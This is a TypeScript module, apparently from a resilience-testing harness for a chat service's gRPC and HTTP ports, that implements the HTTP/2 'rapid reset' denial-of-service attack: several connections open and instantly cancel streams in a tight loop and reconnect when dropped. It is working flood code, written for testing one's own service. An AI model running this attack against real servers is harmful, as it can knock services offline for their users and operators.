/** One address that speaks HTTP/2 as no client does. */

import { setTimeout as delay } from "node:timers/promises";
import { FramePeer, FrameType, frameBytes, headerBlock } from "../../../bad-input/raw-http2.ts";
import type { Attack, Target } from "../attack.ts";

const path = "/parlance.chat.v1.ConversationService/ListConversations";
/** What a connection is given at a time, and how often. */
const bytesAtATime = 32_768;
const everyMs = 80;
const connections = 4;

function rapidReset(id: string, port: "grpc" | "http"): Attack {
  return {
    id,
    name: `rapid-reset-${port}`,
    title: `four connections open and reset streams, 1.5 MB a second, on the ${port === "grpc" ? "gRPC" : "HTTP"} port`,
    async run(target) {
      const block = headerBlock(path, []);
      const cancel = Buffer.from([0, 0, 0, 8]);
      return sendFrames(target, port, (streamId) => [
        frameBytes(FrameType.HEADERS, 4, streamId, block),
        frameBytes(FrameType.RST_STREAM, 0, streamId, cancel),
      ]);
    },
  };
}

/** Sends the frames of one stream after the other, over connections that are made anew when the server ends them. */
async function sendFrames(
  { address, httpAddress, signal }: Target,
  port: "grpc" | "http",
  framesOf: (streamId: number) => Buffer[],
) {
  let streams = 0;
  let ended = 0;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (!signal.aborted) {
        const peer = await FramePeer.connect(port === "grpc" ? address : httpAddress).catch(() => undefined);
        for (let streamId = 1; peer !== undefined && !peer.closed && !signal.aborted; ) {
          const frames: Buffer[] = [];
          for (let bytes = 0; bytes < bytesAtATime; streamId += 2, streams++) {
            const next = framesOf(streamId);
            frames.push(...next);
            for (const { length } of next) bytes += length;
          }
          peer.write(Buffer.concat(frames));
          await delay(everyMs);
        }
        ended++;
        peer?.destroy();
      }
    }),
  );
  return { figure: `${streams} streams over ${ended} connections`, problems: [] };
}

/** Attacks by frames of HTTP/2. */
export const frameAttacks: readonly Attack[] = [rapidReset("D20", "grpc"), rapidReset("D21", "http")];
